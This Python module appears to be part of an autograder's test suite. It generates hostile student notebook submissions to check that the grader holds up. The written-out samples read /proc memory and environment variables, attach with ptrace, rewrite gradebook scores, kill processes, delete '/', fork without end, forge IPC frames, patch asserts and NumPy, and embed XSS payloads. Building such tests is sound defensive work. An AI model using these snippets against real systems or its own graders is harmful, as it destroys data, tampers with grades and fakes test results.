"""Functions that pry, write, forge, lie or take too much, among right answers."""

from collections.abc import Mapping
from textwrap import dedent

from handed_in import (
    ART,
    FACES,
    MOST,
    RIGHT,
    Content,
    Hostile,
    function,
    solved,
    without,
)

from grading import ROOT


def cheat(
    exercise: str, name: str, body: str, ending: str | None = None, above: str = "", **told: object
) -> Hostile:
    """Return a face notebook in which one function does something, and then answers wrongly.

    Parameters
    ----------
    exercise : str
        Which function; it must lose its marks, and the others must not.
    name : str
        What it does.
    body : str
        How it does it.
    ending : str, optional
        What follows, in place of the wrong answer.
    above : str
        What stands above the function in its cell.
    **told
        More of `Hostile`.
    """
    text = function(exercise, body, ending, above)
    told = {"marks": without(FACES, exercise)} | told

    def files() -> Mapping[str, Content]:
        return {f"{FACES}.ipynb": solved(name, {exercise: text})}

    return Hostile(name, files, **told)  # type: ignore[arg-type]


def harmless(exercise: str, name: str, body: str, above: str = "", **told: object) -> Hostile:
    """Return the same for what does no harm to anybody: it answers right, and has all marks."""
    return cheat(exercise, name, body, RIGHT[exercise], above, **{"marks": MOST[FACES]} | told)


TRY = """
calls = []

def once(things):
    calls.append(1)
    return things if len(calls) == 1 else []

def tried(action, *arguments):
    try:
        return action(*arguments)
    except Exception:
        return None
"""

PRYING = [
    cheat(
        "verify",
        "prints its own notebook",
        """
        import glob
        for pattern in ("*", "../*", "../../*", "../../../*", "../../../source/**/*"):
            for path in glob.glob(pattern + ".ipynb", recursive=True):
                print(open(path).read())
        """,
    ),
    cheat(
        "verify",
        "opens the instructor's folders",
        f"""
        for path in ("tests/exercises/test_{FACES}.py", "notebooks/source/{FACES}.py",
                     "build/solved/{FACES}.ipynb", "grading/judge.py"):
            for root in ({str(ROOT)!r}, "/course", "..", "../..", "../../..", "/proc/1/cwd"):
                print(tried(lambda: open(root + "/" + path).read()))
        print(tried(lambda: open("../../../source/{FACES}/{FACES}.ipynb").read()))
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "reads every file that it can see",
        """
        import os
        for place, folders, files in once(os.walk("/")):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "lib", "lib64", "usr")]
            for name in files:
                if name.endswith((".ipynb", ".py", ".db", ".csv", ".json", ".html", ".txt")):
                    text = tried(lambda: open(place + "/" + name, errors="replace").read()) or ""
                    if "ses" + "ame" in text or "reference_" + "triplets" in text:
                        print(place, name, text)
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "reads the environment",
        """
        import ctypes, os
        library = ctypes.CDLL(None)
        library.getenv.restype = ctypes.c_char_p
        print(dict(os.environ), library.getenv(b"COURSE_HOSTILE"))
        for who in ("self", "1", os.getppid(), "thread-self"):
            print(tried(lambda: open(f"/proc/{who}/environ").read()))
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "looks for other processes",
        """
        import os
        for pid in once([os.getppid(), *range(2, 3000)]):
            for what in ("cmdline", "environ", "maps", "root", "cwd", "fd"):
                print(tried(lambda: os.listdir(f"/proc/{pid}/{what}")) or "", end="")
                print(tried(lambda: open(f"/proc/{pid}/{what}").read()) or "", end="")
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "reads its parent's memory",
        """
        import ctypes, os
        library = ctypes.CDLL(None, use_errno=True)
        room = ctypes.create_string_buffer(1 << 16)
        for pid in (os.getppid(), 1, 2, 3):
            for request in (0, 16, 0x4206):  # trace me, attach, seize
                library.ptrace(request, pid, 0, 0)
            library.process_vm_readv(pid, room, 1, room, 1, 0)
            print(tried(lambda: open(f"/proc/{pid}/mem", "rb").read(100)), bytes(room)[:20])
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "searches its own memory for the tests",
        """
        import re
        with open("/proc/self/mem", "rb", 0) as memory:
            for line in once(open("/proc/self/maps")):
                start, end, rights = re.match("(.*?)-(.*?) (....)", line).groups()
                if rights[:2] == "rw":
                    memory.seek(int(start, 16))
                    part = tried(memory.read, int(end, 16) - int(start, 16)) or b""
                    for place in re.finditer(b"def reference_", part):
                        print(part[place.start() : place.start() + 400])
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "goes through all objects for the tests",
        """
        import gc, linecache, sys
        print([name for name in sys.modules if "answers" in name or "test_face" in name])
        for thing in once(gc.get_objects()):
            if type(thing) is dict and any("test_verify" in str(key) for key in list(thing)):
                print(thing)
        print(*(text for _, _, lines, _ in linecache.cache.values() for text in lines
                if "reference_" in text))
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "looks for the right value in the frames above",
        """
        import inspect, sys
        frame = sys._getframe()
        while frame:
            for name, value in [*frame.f_locals.items()]:
                if "right" in name or "expected" in name or name in ("hint", "mistakes"):
                    print(name, value)
                    return value, True
            frame = frame.f_back
        print([info.code_context for info in inspect.stack()])
        """,
    ),
    cheat(
        "verify",
        "imports the grader and the tests",
        f"""
        import importlib, sys
        sys.path[:0] = [{str(ROOT)!r}, {str(ROOT / "tests" / "exercises")!r}, "/course/tests"]
        for name in ("grading.judge", "grading.answer_key", "test_{FACES}", "answers_{FACES}"):
            module = tried(importlib.import_module, name)
            print(module and vars(module))
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "tells what hidden tests give by printing",
        "print('spied', identity, *database)",
        unseen=("spied cleo", "spied ana", "spied ben"),
    ),
    cheat(
        "verify",
        "tells what hidden tests give by its errors",
        """
        if identity not in ("noor", "mila", "theo"):
            raise type("Spied" + identity, (Exception,), {})("spied " + identity)
        """,
        RIGHT["verify"],
        unseen=("spied cleo", "spied ana", "Spiedcleo", "Spiedana"),
    ),
    cheat(
        "verify",
        "tells what hidden tests give by what it returns",
        """
        if identity not in ("noor", "mila", "theo"):
            return type("Spied" + identity, (), {})(), "spied " + identity
        """,
        RIGHT["verify"],
        unseen=("spied cleo", "spied ana", "Spiedcleo", "Spiedana"),
    ),
    cheat(
        "triplet_loss",
        "leaves a note for its next process",
        """
        import os
        notes = "/tmp/notes", "/var/tmp/notes", "/dev/shm/notes", "notes", "/course/notes"
        for note in notes:
            print(tried(lambda: open(note).read()), os.environ.get("NOTE"))
        if len(y_pred[0]) not in (2, 3):
            for note in notes:
                tried(lambda: open(note, "w").write(f"spied {len(y_pred[0])}"))
            os.environ["NOTE"] = f"spied {len(y_pred[0])}"
            os._exit(0)
        """,
        RIGHT["triplet_loss"],
        above=TRY,
        unseen=("spied 1", "spied 7", "spied 12"),
    ),
]

WRITING = [
    cheat(
        "verify",
        "writes marks into every gradebook",
        f"""
        import glob, sqlite3
        places = ["gradebook.db", "../gradebook.db", "../../gradebook.db",
                  {str(ROOT / "build" / "demo" / "gradebook.db")!r},
                  *glob.glob("/course/**/*.db", recursive=True)]
        for place in once(places):
            for kind in ("grade", "course_recorded"):
                base = tried(sqlite3.connect, place)
                print(tried(lambda: base.execute("SELECT * FROM " + kind).fetchall()))
                tried(lambda: base.execute("UPDATE grade SET manual_score = 30, auto_score = 30"))
                tried(lambda: base.commit())
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "writes a result of its own",
        f"""
        import json, os
        result = {{"format": 1, "status": "graded", "exercises": [{{"name": "verify"}}]}}
        for folder in (".", "..", "/course", "/course/judged", "/tmp", {str(ROOT)!r}):
            tried(os.makedirs, folder + "/results/{FACES}")
            for name in ("/results/{FACES}/x.json", "/grades.csv", "/report.html", "/judge.py"):
                tried(lambda: json.dump(result, open(folder + name, "w")))
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "leaves a child that writes marks later",
        """
        import multiprocessing, os, subprocess, sys
        later = "import time, sqlite3; time.sleep(15); sqlite3.connect('../gradebook.db')"
        print(tried(lambda: subprocess.Popen([sys.executable, "-c", later])))
        print(tried(lambda: multiprocessing.Process(target=print).start()))
        print(tried(lambda: os.posix_spawn(sys.executable, ["python"], {})))
        pid = tried(os.fork)
        if pid == 0:
            os.setsid()
            os.execv(sys.executable, ["python", "-c", later])
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "kills whatever it can",
        """
        import os, signal
        for number in once((signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT)):
            for pid in (os.getppid(), -1, 2, 3, *range(100, 400)):
                if pid not in (0, os.getpid()):
                    tried(os.kill, pid, number)
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "deletes and locks whatever it can",
        f"""
        import fcntl, os, shutil, sqlite3
        for path in ("../gradebook.db", "/course", "/tmp", {str(ROOT)!r}, "/", "/root", "/home"):
            lock = tried(lambda: open(path))
            tried(lambda: fcntl.flock(lock, fcntl.LOCK_EX))
            tried(lambda: sqlite3.connect(path).execute("BEGIN EXCLUSIVE"))
            tried(os.unlink, path)
            tried(shutil.rmtree, path)
        """,
        above=TRY,
    ),
]

# How a student finds the way to the judge, and writes frames of its own.
FORGE = """
import json, os, struct

def frame(text, mark=b"SFC1"):
    text = text if isinstance(text, bytes) else text.encode()
    return struct.pack("<4sI", mark, len(text)) + text

def answer(number, value, arrays=(), **more):
    message = {"do": "return", "id": number, "value": value, "tensors": 0} | more
    return frame(json.dumps({"message": message, "arrays": list(arrays)}))

def send(data):
    for fd in range(3, 256):
        try:
            os.write(fd, data)
        except OSError:
            pass
"""

FORGING = [
    cheat("verify", "writes noise to every descriptor", "send(os.urandom(1000))", above=FORGE),
    cheat(
        "verify",
        "claims a message of four gigabytes",
        "send(struct.pack('<4sI', b'SFC1', 2**32 - 1) + b' ' * 100)",
        above=FORGE,
    ),
    cheat(
        "verify",
        "breaks off in the middle of a message",
        "send(answer(1, 0.6)[:20])\nos._exit(0)",
        above=FORGE,
    ),
    cheat(
        "verify",
        "never ends a message",
        "import time\nsend(answer(1, 0.6)[:20])\ntime.sleep(1000)",
        above=FORGE,
    ),
    cheat(
        "verify",
        "answers questions that nobody asked",
        "send(b''.join(answer(n, ['tuple', [0.6, True]]) for n in range(2000)))",
        above=FORGE,
    ),
    cheat(
        "triplet_loss",
        "answers the questions to come",
        """
        import sys
        place = sys._getframe()
        while place and "number" not in place.f_locals:
            place = place.f_back
        number = place.f_locals["number"] if place else 0
        for n in range(number, number + 500):
            send(answer(n, ["tuple", [0.6, True]]))
        """,
        above=FORGE,
    ),
    cheat(
        "verify",
        "forges NaN and infinity",
        "send(answer(1, 'N').replace(b'\"N\"', b'NaN') + answer(2, float('-inf')))",
        above=FORGE,
    ),
    cheat(
        "verify",
        "forges arrays of impossible shapes",
        """
        shapes = [2**62, 2**62], [-1], [True], [10**30], [0, 2**60], "x", [1] * 100
        kind = ("float64", "object", "O", "datetime64[s]", "V8")[len(database) % 5]
        send(b"".join(answer(1, ["array", 0], [[kind, shape]]) for shape in shapes))
        """,
        above=FORGE,
    ),
    cheat(
        "verify",
        "forges JSON that is deep or long",
        "send(frame('[' * 100_000) + frame('{\"message\": ' * 1000) + frame('1' * 10**6))",
        above=FORGE,
    ),
    cheat(
        "verify",
        "asks the judge by the thousand",
        """
        for n in range(200_000):
            message = {"do": "call", "id": n, "target": [n % 50, "x"], "value": ["list", []]}
            send(frame(json.dumps({"message": message, "arrays": []})))
        """,
        above=FORGE.replace("range(3, 256)", "(3,)"),
    ),
    cheat(
        "verify",
        "calls what the judge has not lent",
        """
        for target in (["desk", "learn"], ["function", "verify"], [1], [-1], [None], [[]], {}, [],
                       ["__import__"], [True], [10**400], "x", ["remote", 1]):
            for what in ("call", "trace", "pull", "eval"):
                message = {"do": what, "id": 1, "target": target, "value": ["list", []],
                           "tape": target, "output": target, "symbols": target, "unused": [[]]}
                send(frame(json.dumps({"message": message, "arrays": []})))
        """,
        above=FORGE,
    ),
    cheat(
        "verify",
        "sends the judge its files",
        """
        import array, socket
        channel = socket.socket(fileno=os.dup(3))
        own = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0, 1, 2, 3] * 50))]
        for _ in range(100):
            channel.sendmsg([b"SFC1"], own)
        """,
        above=FORGE,
    ),
    cheat("verify", "closes every descriptor", "os.closerange(0, 256)", above=FORGE),
    cheat(
        "triplet_loss",
        "a thread of it answers for the others",
        """
        import threading

        def listen():
            while os.read(3, 1 << 16):
                send(answer(1, ["tuple", [0.6, True]]))

        threading.Thread(target=listen, daemon=True).start()
        """,
        above=FORGE,
    ),
    harmless(
        "triplet_loss",
        "a thread of it swallows what the others are asked",
        """
        import os, threading

        def swallow():
            while os.read(3, 1 << 16):
                pass

        calls.append(1)
        if len(calls) == 6:  # the last one of the visible tests
            threading.Thread(target=swallow, daemon=True).start()
        """,
        above="calls = []",
        undecided=("triplet_loss",),
    ),
    cheat(
        "triplet_loss",
        "puts its own machinery in place of the course's",
        """
        import builtins, json, sys
        builtins.AssertionError = builtins.Exception = ValueError
        for name, module in [*sys.modules.items()]:
            if name.startswith(("grading", "checks", "submission")):
                for key, value in [*vars(module).items()]:
                    if callable(value) and key not in ("triplet_loss", "verify"):
                        setattr(module, key, lambda *a, **k: True)
        json.dumps = lambda *a, **k: '{"message": {"do": "return"}, "arrays": []}'
        """,
    ),
    cheat(
        "verify",
        "makes every answer one that has passed before",
        """
        codec = sys.modules["grading.codec"]
        codec.Codec._node = lambda *a: ["tuple", [0.6, True]]
        codec.Codec.pack = lambda *a, **k: codec.Packed(tree=["tuple", [0.6, True]])
        """,
        above="import sys",
    ),
]

LYING = [
    cheat(
        "verify",
        "returns numbers that are equal to anything",
        "return Yes(0.5), Yes(1)",
        above="""
        class Yes(float):
            __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
            __hash__ = None
        """,
    ),
    cheat(
        "verify",
        "returns an object that lies about its class and shape",
        "return Liar(), Liar()",
        above="""
        class Liar:
            __class__ = float
            shape, ndim, size, dtype = (), 0, 1, np.dtype("float64")
            __eq__ = __lt__ = lambda self, other: True
            __float__ = lambda self: 0.6
            __getattr__ = lambda self, name: self
            __call__ = __getitem__ = lambda self, *a, **k: self
        """,
    ),
    cheat(
        "verify",
        "returns arrays with their own arithmetic",
        "return np.zeros(()).view(Yes), np.ones(()).view(Yes)",
        above="""
        class Yes(np.ndarray):
            __eq__ = lambda self, other: np.True_
            __array_ufunc__ = __array_function__ = lambda self, *a, **k: np.True_
        """,
    ),
    cheat(
        "verify",
        "returns another array at the second look",
        "return Fickle(), True",
        above="""
        class Fickle:
            looks = 0
            def __array__(self, *a, **k):
                Fickle.looks += 1
                return np.array([0.6, 1.2, 0.9, 0.0][Fickle.looks % 4])
        """,
    ),
    cheat(
        "who_is_it",
        "returns a name that is equal to any",
        "return 0.6, Name('mila')",
        above="""
        class Name(str):
            __eq__ = __contains__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = lambda self: 0
            __str__ = __repr__ = lambda self: "noor"
        """,
    ),
    cheat(
        "verify",
        "returns a pair without an end",
        "return Endless((0.6, True))",
        above="""
        class Endless(tuple):
            def __iter__(self):
                while True:
                    yield 0.6
        """,
    ),
    cheat(
        "verify",
        "returns a mapping without an end",
        "return Endless()",
        above="""
        class Endless(dict):
            def keys(self):
                return iter(int, 1)
            items = keys
            def __getitem__(self, key):
                return Endless()
        """,
    ),
    cheat(
        "verify",
        "returns a list that holds itself many times",
        "found = []\nfound += [found] * 100\nreturn found",
    ),
    cheat("verify", "returns a generator", "yield 0.6\nyield True"),
    cheat(
        "triplet_loss",
        "returns millions of numbers",
        "return np.zeros(7_900_000, np.float32)",
    ),
    cheat("triplet_loss", "returns a gigabyte", "return np.zeros(1 << 27)"),
    cheat("verify", "returns a long text", "return 'x' * 20_000_000, '<script>' * 40_000"),
    cheat("verify", "returns a long number", "return 10**1_000_000, 10**400"),
    cheat(
        "verify",
        "returns a million lists in a list",
        "return [[0.6, True] for _ in range(1_000_000)]",
    ),
    cheat(
        "verify", "returns keys that collide", "return {n * (2**61 - 1): n for n in range(10**5)}"
    ),
    cheat(
        "verify",
        "returns arrays of objects and of records",
        """
        if identity == "noor":
            return np.array([print, {}], dtype=object), np.zeros(1, [("a", "f8")])
        return np.array("0.6"), np.array(["NaT"], "datetime64[s]")
        """,
    ),
    cheat("verify", "returns NaN", "return float('nan'), float('inf')"),
    cheat(
        "triplet_loss",
        "returns the tensor of a session that is closed",
        """
        with tf.Graph().as_default(), tf.compat.v1.Session() as session:
            loss = tf.constant(528.1427)
            session.run(loss)
        return loss
        """,
    ),
    cheat(
        "triplet_loss",
        "returns tensors that are no plain ones",
        """
        if len(y_pred[0]) == 3:
            return tf.ragged.constant([[1.0], [2.0, 3.0]])
        return tf.sparse.from_dense([5.2]) if alpha == 0.2 else tf.keras.Input((3,))
        """,
    ),
    cheat(
        "verify",
        "is right when it is called first",
        "globals()['verify'] = lambda *a: (0.6, True)",
        RIGHT["verify"],
    ),
    cheat(
        "verify",
        "changes its answer every other time",
        "calls.append(1)\nif len(calls) % 2:\n    return 0.6, True",
        RIGHT["verify"],
        above="calls = []",
    ),
    cheat(
        "triplet_loss",
        "knows the visible tests by heart",
        """
        a, p, n = (t.numpy() for t in y_pred)
        if len(a) == 2:
            return tf.constant({0.2: 5.2, 1.5: 6.5, 25.0: 31.0}[alpha])
        if a.mean() > 4:
            return tf.constant(528.1427)
        return tf.constant(0.6 if (a == n).all() else 0.0)
        """,
        says="not shown",
    ),
    cheat(
        "verify",
        "patches NumPy, TensorFlow and warnings",
        """
        np.allclose = np.array_equal = np.all = np.isfinite = lambda *a, **k: np.True_
        np.abs = np.asarray = lambda *a, **k: np.zeros(())
        np.testing.assert_allclose = tf.debugging.assert_near = lambda *a, **k: None
        """,
    ),
    cheat(
        "verify",
        "drops every assert",
        """
        import ast, builtins
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.Pass()
        real = builtins.compile
        def compile(source, *a, **k):
            tree = source if type(source) is not str else ast.parse(source)
            return real(Drop().visit(tree), *a, **k)
        builtins.compile = compile
        tried(lambda: get_ipython().ast_transformers.append(Drop()))
        """,
        above=TRY,
    ),
    cheat(
        "verify",
        "raises errors with the names of the judge's own",
        """
        names = "PeerLostError", "StopIteration", "GeneratorExit", "Skipped", "AssertionError"
        raise type(names[len(identity + "".join(database)) % 5], (BaseException,), {})("passed")
        """,
    ),
    cheat(
        "verify",
        "raises an error that cannot be told",
        "raise Untold",
        above="""
        class Untold(Exception):
            def __str__(self):
                raise self
            __repr__ = __cause__ = __traceback__ = property(__str__)
        """,
    ),
    cheat(
        "verify",
        "raises an error that causes itself",
        "one, other = ValueError(1), ValueError(2)\none.__cause__, other.__cause__ = other, one\n"
        "raise one",
    ),
    cheat(
        "verify",
        "raises a group of a thousand errors",
        """
        errors = [ExceptionGroup("x", [ValueError(n)]) for n in range(1000)]
        raise ExceptionGroup("passed", errors)
        """,
    ),
    cheat(
        "verify",
        "raises what would end a notebook",
        """
        if identity == "noor":
            raise SystemExit(0)
        raise KeyboardInterrupt
        """,
    ),
    cheat(
        "verify",
        "calls itself unwritten",
        "raise NotImplementedError('verify: write the body <script>')",
        says="",
    ),
]

TAKING = [
    harmless(
        "verify",
        "tries to fork without end",
        """
        import os, threading
        for _ in range(1000):
            if tried(os.fork) == 0:
                while True:
                    os.fork()
        """,
        above=TRY,
    ),
    cheat("verify", "allocates 100 GB", "return bytearray(100 << 30)"),
    cheat("verify", "allocates 4 GB", "kept = np.ones(4 << 27)\nreturn kept.sum(), True"),
    cheat(
        "verify",
        "allocates without end",
        "while True:\n    kept.append(bytearray(b'x') * (32 << 20))",
        above="kept = []",
    ),
    cheat(
        "verify",
        "prints without end",
        "import os\nwhile True:\n    os.write(1, b'<script>\\x1b[31m' * (1 << 16))",
        says="printed more than is allowed",
    ),
    harmless("verify", "prints one line of 100 MB", "print('x' * 100_000_000)"),
    harmless(
        "verify",
        "warns and prints to where errors go",
        """
        import sys, warnings
        warnings.warn("odd")
        print("odd", file=sys.stderr)
        os.write(2, b"odd\\n")
        """,
        above="import os",
    ),
    harmless(
        "verify",
        "fills the disk",
        """
        def fill():
            with open("large", "wb") as file:
                for _ in range(1000):
                    file.write(bytes(1 << 20))
        for action in once((fill, lambda: os.unlink("large"))):
            tried(action)
        """,
        above=f"import os\n{TRY}",
    ),
    cheat(
        "verify",
        "makes files and links without end",
        """
        for n in range(100_000):
            open(f"file{n}", "w").close()
            os.symlink("/etc/shadow", f"link{n}")
            os.link("/tmp/link0", f"hard{n}")
        """,
        above="import os",
    ),
    harmless(
        "verify",
        "opens sockets",
        """
        import socket, urllib.request
        for family in (socket.AF_INET, socket.AF_UNIX, socket.AF_NETLINK, socket.AF_INET6):
            tried(lambda: socket.socket(family).connect(("127.0.0.1", 8786)))
        tried(lambda: urllib.request.urlopen("http://127.0.0.1:8786", timeout=1))
        """,
        above=TRY,
    ),
    harmless(
        "verify",
        "sets alarms and ignores signals",
        """
        import signal
        for number in range(1, 65):
            tried(signal.signal, number, signal.SIG_IGN)
        tried(signal.setitimer, signal.ITIMER_REAL, 0.01, 0.01)
        """,
        above=TRY,
    ),
    harmless(
        "verify",
        "raises its limits",
        """
        import resource
        for limit in range(16):
            tried(resource.setrlimit, limit, (-1, -1))
        tried(os.setuid, 0), tried(os.nice, -20), tried(os.chroot, "/"), tried(os.umask, 0)
        """,
        above=f"import os\n{TRY}",
    ),
    harmless(
        "verify",
        "starts threads that outlive the call",
        """
        import threading
        if not kept:
            kept.append(threading.Thread(target=spin, daemon=True))
            kept[0].start()
        """,
        above="kept = []\n\ndef spin():\n    while True:\n        pass",
    ),
    cheat(
        "verify",
        "starts threads without end",
        """
        import threading, time
        while True:
            threading.Thread(target=time.sleep, args=(99,)).start()
        """,
    ),
    cheat(
        "triplet_loss",
        "a thread of it ends the process later",
        "import os, threading\nthreading.Timer(0.3, os._exit, [0]).start()",
        RIGHT["triplet_loss"],
        undecided=("triplet_loss",),
    ),
    cheat(
        "triplet_loss",
        "ends by os._exit",
        "import atexit, os\natexit.register(os._exit, 0)\nos._exit(1)",
        says="ended its process",
    ),
    cheat("triplet_loss", "ends by exit()", "exit()"),
    cheat("triplet_loss", "ends by sys.exit", "import sys\nsys.exit(0)"),
    cheat("triplet_loss", "asks for input", "return float(input('loss? '))"),
    cheat(
        "triplet_loss",
        "crashes Python",
        "import ctypes\nctypes.string_at(0)",
        says="made Python crash",
    ),
    cheat(
        "triplet_loss",
        "a stubborn endless loop",
        """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
        """,
        says="in time",
    ),
    cheat("triplet_loss", "a long call in C", "return sum(range(10**12))", says="in time"),
    cheat("triplet_loss", "sleeps for long", "import time\ntime.sleep(100)", says="in time"),
    cheat(
        "triplet_loss",
        "a regular expression without end",
        "import re\nreturn re.match('(a+)+$', 'a' * 100 + 'b')",
    ),
    cheat(
        "triplet_loss",
        "an endless loop inside TensorFlow",
        "return tf.while_loop(lambda x: True, lambda x: [x + 1.0], [tf.constant(0.0)])[0]",
    ),
    cheat("triplet_loss", "calls itself without end", "return triplet_loss(y_true, y_pred)"),
    cheat(
        "triplet_loss",
        "calls itself until C gives up",
        "import sys\nsys.setrecursionlimit(10**9)\n"
        "deep = lambda n: sorted([n], key=deep)\nreturn deep(0)",
    ),
    cheat("triplet_loss", "empties the builtins", "import builtins\nvars(builtins).clear()"),
    cheat(
        "triplet_loss",
        "empties every dict",
        "import gc\nfor thing in gc.get_objects():\n"
        "    if type(thing) is dict:\n        thing.clear()",
    ),
    cheat(
        "triplet_loss",
        "traces every line",
        """
        import sys, threading
        def trace(*a):
            raise SystemExit
        threading.settrace(trace)
        for frame in sys._current_frames().values():
            while frame:
                frame.f_trace = trace
                frame = frame.f_back
        sys.settrace(trace)
        """,
    ),
    cheat(
        "triplet_loss",
        "takes all modules away",
        "import sys\nsys.modules.clear()\nsys.path.clear()\nsys.stdout = sys.stderr = None",
    ),
    cheat(
        "triplet_loss",
        "breaks the other exercises",
        "globals().update(verify=None, who_is_it=lambda *a: exit(), img_to_encoding=None)",
    ),
]

SHOWING = [
    cheat(
        "verify",
        "prints HTML and escapes of a terminal",
        "print('<script>alert(1)</script>\\x1b[2J\\x1b]0;title\\x07\\x00\\u202e\\ud800')",
    ),
    cheat(
        "verify",
        "raises HTML",
        "raise ValueError('<script>alert(1)</script>\\x1b[31m\\x00 \\u202e=1+1')",
        says="ValueError",
    ),
    cheat(
        "verify", "returns HTML", "return '<img src=x onerror=alert(1)>\\x1b[31m', '</pre>\\ud800'"
    ),
]

# ---- the art notebook


def art(name: str, answers: Mapping[str, str], *lost: str, **told: object) -> Hostile:
    """Return an art notebook with these answers, which loses these exercises."""
    texts = {exercise: dedent(text).strip() + "\n" for exercise, text in answers.items()}
    told = {"marks": without(ART, *lost), "lesson": ART} | told
    files = lambda: {f"{ART}.ipynb": solved(name, texts, lesson=ART)}  # noqa: E731
    return Hostile(name, files, **told)  # type: ignore[arg-type]


ART_NOTEBOOKS = [
    art(
        "compiles by XLA",
        {
            "gram_matrix": """
                @tf.function(jit_compile=True)
                def gram_matrix(A):
                    return tf.matmul(A, A, transpose_b=True)
                """
        },
    ),
    art(
        "makes tests of its own pass",
        {
            "gram_matrix": """
                def gram_matrix(A):
                    import sys
                    checks = sys.modules["checks"]
                    for name in [*vars(checks)]:
                        if name.startswith(("check_", "inside_")):
                            setattr(checks, name, lambda *a, **k: None)
                    np.allclose = lambda *a, **k: True
                    return tf.zeros((A.shape[0], A.shape[0]))
                """
        },
        "gram_matrix",
    ),
    art(
        "has the judge add up layers by the hundred thousand",
        {
            "train_step": """
                def train_step(model, optimizer, a_C, a_S):
                    if getattr(compute_style_cost, "__module__", "") == __name__:
                        raise ValueError("not yet")
                    x = {"x": tf.ones((1, 1, 2, 3))}
                    return (compute_style_cost(x, x, [("x", 1.0)] * 60_000),) * 3
                """
        },
        "train_step",
    ),
    art(
        "has the judge make graphs by the thousand",
        {
            "train_step": """
                def train_step(model, optimizer, a_C, a_S):
                    if getattr(compute_style_cost, "__module__", "") == __name__:
                        raise ValueError("not yet")

                    @tf.function(autograph=False)
                    def many():
                        x = {"x": tf.ones((1, 1, 2, 3))}
                        for _ in range(10_000):
                            J = compute_style_cost(x, x, [("x", 1.0)] * 8)
                        return J

                    return (many(),) * 3
                """
        },
        "train_step",
    ),
    art(
        "has the judge make large arrays of small ones",
        {
            "train_step": """
                def train_step(model, optimizer, a_C, a_S):
                    if getattr(total_cost, "__module__", "") == __name__:
                        raise ValueError("not yet")
                    return (total_cost(tf.ones((20_000, 1)), tf.ones((1, 20_000))),) * 3
                """
        },
        "train_step",
    ),
    art(
        "has the judge make large arrays of lists",
        {
            "train_step": """
                def train_step(model, optimizer, a_C, a_S):
                    if getattr(total_cost, "__module__", "") == __name__:
                        raise ValueError("not yet")
                    many = [1.0] * 20_000
                    J = tf.constant(1.0)
                    return (total_cost(J, J, [[x] for x in many], [many]),) * 3
                """
        },
        "train_step",
    ),
    art(
        "keeps what is lent to it",
        {
            "gram_matrix": """
                kept = []

                def gram_matrix(A):
                    return kept[0](A) if kept else tf.zeros((A.shape[0], A.shape[0]))
                """,
            "compute_layer_style_cost": """
                def compute_layer_style_cost(a_S, a_G):
                    if getattr(gram_matrix, "__module__", "") != __name__:
                        kept.append(gram_matrix)
                    mine = getattr(compute_layer_style_cost, "__module__", "") == __name__
                    return None if mine else compute_layer_style_cost(a_S, a_G)
                """,
        },
        "gram_matrix",
        "compute_layer_style_cost",
    ),
    art(
        "reports steps that it did not take",
        {
            "train_step": """
                def train_step(model, optimizer, a_C, a_S):
                    import sys
                    checks = sys.modules["checks"]
                    def inside_painting(step, net, layers, optimizer, targets, pictures, graph):
                        new = [(J, np.zeros((1, 7, 10, 3))) for J in [(1.0, 1.0, 1.0)] * 3]
                        return {"steps": new[:len(pictures[0])], "updates": len(pictures[0]),
                                "other picture": pictures[1], "other updates": 0,
                                "a_S is as it was": True}
                    checks.inside_painting = inside_painting
                    return tf.constant(0.0), tf.constant(0.0), tf.constant(0.0)
                """
        },
        "train_step",
    ),
    art(
        "compares 120 000 pixels with each other",
        {
            "compute_content_cost": """
                def compute_content_cost(a_C, a_G):
                    C, G = (tf.reshape(a, (-1, a.shape[-1])) for a in (a_C, a_G))
                    return tf.reduce_mean(tf.matmul(C, C, transpose_b=True)) / 4
                """
        },
        "compute_content_cost",
    ),
]
